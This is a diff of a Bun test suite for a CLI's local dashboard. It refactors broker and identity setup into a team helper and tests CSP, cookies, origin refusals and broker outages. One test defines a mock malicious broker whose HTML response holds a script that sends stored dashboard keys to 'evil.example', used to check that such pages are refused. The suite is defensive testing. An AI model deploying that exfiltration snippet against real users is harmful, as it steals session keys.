@@ -5,8 +5,7 @@
 // own sessions), the origin check, a broker that goes away, Ctrl-C, and the refusals at start.
 // The page itself runs through it in a real browser in dashboard-browser and dashboard-live.
 import { describe, expect, test } from "bun:test";
-import { startBroker } from "../helpers/broker.ts";
-import { cli, cliMesh, dashboardOnce, dashboardServing, identities } from "../helpers/cli.ts";
+import { cli, cliTeam, dashboardOnce, dashboardServing } from "../helpers/cli.ts";
 import { parseDashboardFragment } from "../../src/client/dashboard-link.ts";
 import { loadConfig, saveConfig } from "../../src/client/local/config-file.ts";
 
@@ -25,10 +24,9 @@ const me = async (local: string, cookie: string) => {
 
 describe("the page served by claudemesh dashboard", () => {
   test("serves the page and its files with the CSP; refuses other paths, other methods and another Host", async () => {
-    await using b = await startBroker();
-    await using ids = identities(1);
-    await cliMesh(b.url, [[ids.dirs[0]!, "alice"]]);
-    await using served = await dashboardServing(ids.dirs[0]!);
+    await using team = await cliTeam(["alice"]);
+    const { b, dirs: [alice] } = team;
+    await using served = await dashboardServing(alice);
     const { local } = served.json;
     const page = await fetch(local);
     const html = await page.text();
@@ -48,14 +46,10 @@ describe("the page served by claudemesh dashboard", () => {
   }, 60_000);
 
   test("a login through it gets a cookie named with its port, not Secure; two dashboards in one browser keep their own sessions", async () => {
-    await using b = await startBroker();
-    await using ids = identities(2);
-    const m = await cliMesh(b.url, [
-      [ids.dirs[0]!, "alice"],
-      [ids.dirs[1]!, "bob"],
-    ]);
-    await using aliceServed = await dashboardServing(ids.dirs[0]!);
-    await using bobServed = await dashboardServing(ids.dirs[1]!);
+    await using team = await cliTeam(["alice", "bob"]);
+    const { b, dirs: [alice, bob], mesh: m } = team;
+    await using aliceServed = await dashboardServing(alice);
+    await using bobServed = await dashboardServing(bob);
     const [alicePort, bobPort] = [aliceServed, bobServed].map((s) => new URL(s.json.local).port);
     const aliceCookie = await login(aliceServed);
     expect(aliceCookie).toMatch(new RegExp(`^cm_dashboard_${alicePort}=[A-Za-z0-9_-]{43}; Path=/; HttpOnly; SameSite=Strict; Max-Age=28800$`));
@@ -78,10 +72,9 @@ describe("the page served by claudemesh dashboard", () => {
   }, 60_000);
 
   test("a state-changing call from another origin is refused before the broker; from the page's own it reaches it", async () => {
-    await using b = await startBroker();
-    await using ids = identities(1);
-    await cliMesh(b.url, [[ids.dirs[0]!, "alice"]]);
-    await using served = await dashboardServing(ids.dirs[0]!);
+    await using team = await cliTeam(["alice"]);
+    const { dirs: [alice] } = team;
+    await using served = await dashboardServing(alice);
     const { local } = served.json;
     const cookie = (await login(served)).split(";")[0]!;
     const logout = (origin: string) => fetch(`${local}v1/dashboard/logout`, { method: "POST", headers: { cookie, origin, "content-type": "application/json" }, body: "{}" });
@@ -93,10 +86,9 @@ describe("the page served by claudemesh dashboard", () => {
   }, 60_000);
 
   test("a broker that goes away: the page's calls say so (503 unavailable); Ctrl-C stops it with exit 0", async () => {
-    const b = await startBroker();
-    await using ids = identities(1);
-    await cliMesh(b.url, [[ids.dirs[0]!, "alice"]]);
-    await using served = await dashboardServing(ids.dirs[0]!);
+    await using team = await cliTeam(["alice"]);
+    const { b, dirs: [alice] } = team;
+    await using served = await dashboardServing(alice);
     const { local } = served.json;
     await b.stop();
     const r = await fetch(`${local}v1/dashboard/session`);
@@ -109,9 +101,8 @@ describe("the page served by claudemesh dashboard", () => {
   }, 60_000);
 
   test("a broker under a path prefix: its answers are passed on only as JSON or an event stream, with our headers, never as a page in this origin", async () => {
-    await using b = await startBroker();
-    await using ids = identities(1);
-    await cliMesh(b.url, [[ids.dirs[0]!, "alice"]]);
+    await using team = await cliTeam(["alice"]);
+    const { dirs: [alice] } = team;
     // A modified broker (behind a reverse proxy, under a path): a page, which would run next to
     // the keys, and headers of its own.
     await using evil = Bun.serve({
@@ -128,9 +119,9 @@ describe("the page served by claudemesh dashboard", () => {
             ? new Response("<script>fetch('https://evil.example/?k='+sessionStorage.getItem('claudemesh.dashboard.keys'))</script>", { headers: { "content-type": "text/html" } })
             : Response.json({ member: false, operator: false }, { headers: { refresh: "0; url=https://evil.example/", "content-security-policy": "default-src *", "x-evil": "1" } }),
     });
-    const cfg = loadConfig(ids.dirs[0]!);
-    saveConfig(ids.dirs[0]!, { ...cfg, meshes: cfg.meshes.map((m) => ({ ...m, brokerUrl: `${evil.url.origin}/mesh` })) });
-    await using served = await dashboardServing(ids.dirs[0]!);
+    const cfg = loadConfig(alice);
+    saveConfig(alice, { ...cfg, meshes: cfg.meshes.map((m) => ({ ...m, brokerUrl: `${evil.url.origin}/mesh` })) });
+    await using served = await dashboardServing(alice);
     const page = await fetch(`${served.json.local}v1/dashboard/session`);
     expect([page.status, page.headers.get("content-type"), ((await page.json()) as any).error.message]).toEqual([503, expect.stringContaining("application/json"), expect.stringContaining("with 200 text/html, not the dashboard's JSON")]);
     // A list of types (browsers take the last) is not JSON either.
@@ -145,23 +136,22 @@ describe("the page served by claudemesh dashboard", () => {
   }, 60_000);
 
   test("refused at start: a bad --port or one in use (exit 2), a broker that cannot be reached (exit 6)", async () => {
-    await using b = await startBroker();
-    await using ids = identities(1);
-    await cliMesh(b.url, [[ids.dirs[0]!, "alice"]]);
-    const bad = await cli(ids.dirs[0]!, ["dashboard", "--no-open", "--port", "http"]);
+    await using team = await cliTeam(["alice"]);
+    const { b, dirs: [alice] } = team;
+    const bad = await cli(alice, ["dashboard", "--no-open", "--port", "http"]);
     expect({ code: bad.code, stderr: bad.stderr }).toEqual({ code: 2, stderr: expect.stringContaining('--port takes a port number (1–65535), not "http"') });
-    await using first = await dashboardServing(ids.dirs[0]!);
+    await using first = await dashboardServing(alice);
     const port = new URL(first.json.local).port;
-    const taken = await cli(ids.dirs[0]!, ["dashboard", "--no-open", "--port", port]);
+    const taken = await cli(alice, ["dashboard", "--no-open", "--port", port]);
     expect({ code: taken.code, stderr: taken.stderr }).toEqual({ code: 2, stderr: expect.stringContaining(`Port ${port} on 127.0.0.1 is in use`) });
     // A free port (for an SSH tunnel, say) is used as given.
     const probe = Bun.serve({ hostname: "127.0.0.1", port: 0, fetch: () => new Response() });
     const free = probe.port!;
     await probe.stop(true);
-    const fixed = await dashboardOnce(ids.dirs[0]!, ["--no-open", "--json", "--port", String(free)]);
+    const fixed = await dashboardOnce(alice, ["--no-open", "--json", "--port", String(free)]);
     expect({ code: fixed.code, local: fixed.json().local }).toEqual({ code: 0, local: `http://127.0.0.1:${free}/` });
     await b.stop();
-    const down = await cli(ids.dirs[0]!, ["dashboard", "--no-open"]);
+    const down = await cli(alice, ["dashboard", "--no-open"]);
     expect({ code: down.code, stdout: down.stdout, stderr: down.stderr }).toEqual({ code: 6, stdout: "", stderr: expect.stringContaining(`Cannot reach the broker at ${b.url}`) });
   }, 60_000);
 });
